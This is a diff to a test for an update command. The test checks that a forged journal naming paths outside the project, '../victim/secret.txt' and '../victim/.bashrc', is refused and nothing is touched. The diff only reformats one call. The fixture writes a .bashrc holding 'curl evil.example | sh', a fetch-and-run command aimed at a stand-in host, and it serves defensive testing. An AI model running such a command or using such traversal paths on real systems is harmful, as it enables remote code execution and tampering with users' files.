@@ -31,7 +31,14 @@ describe('update, given forged state files', () => {
   it('refuses a journal that names paths outside the project, touching nothing', async () => {
     const { project, victim, victimFiles } = projectBesideVictim();
     // The two-line journal of the report: delete ../victim/secret.txt, replace ../victim/.bashrc.
-    write(project, JOURNAL, journal([['../victim/secret.txt', false], ['../victim/.bashrc', true]]));
+    write(
+      project,
+      JOURNAL,
+      journal([
+        ['../victim/secret.txt', false],
+        ['../victim/.bashrc', true],
+      ]),
+    );
     mkdirSync(path.join(project, '.cognito-jwt-api/victim'), { recursive: true });
     write(project, '.cognito-jwt-api/victim/.bashrc', 'curl evil.example | sh\n');
     const before = tree(project);
